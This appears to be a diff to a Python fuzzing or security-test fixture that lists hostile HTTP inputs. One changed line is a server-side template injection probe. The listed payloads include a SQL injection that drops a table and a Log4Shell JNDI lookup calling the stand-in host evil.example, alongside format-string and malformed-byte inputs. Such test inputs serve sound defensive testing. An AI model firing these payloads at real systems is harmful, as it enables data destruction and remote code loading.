@@ -150,7 +150,7 @@ HEADERS: Final = ("Authorization", "Origin", "X-Forwarded-For", "Forwarded", "Us
                   "X-Twilio-Signature", "If-None-Match")  # fmt: skip
 BYTES: Final = (
     b"' OR 1=1; DROP TABLE conversations; -- ",
-    b"{{7*191}} ${jndi:ldap://evil.example/a} %n%s",
+    b"{{7777*7777}} ${jndi:ldap://evil.example/a} %n%s",
     b"\x1b[31m \xff\xfe\xc3\x28",
     b"a" * 6_000,
     b"a\x00b",
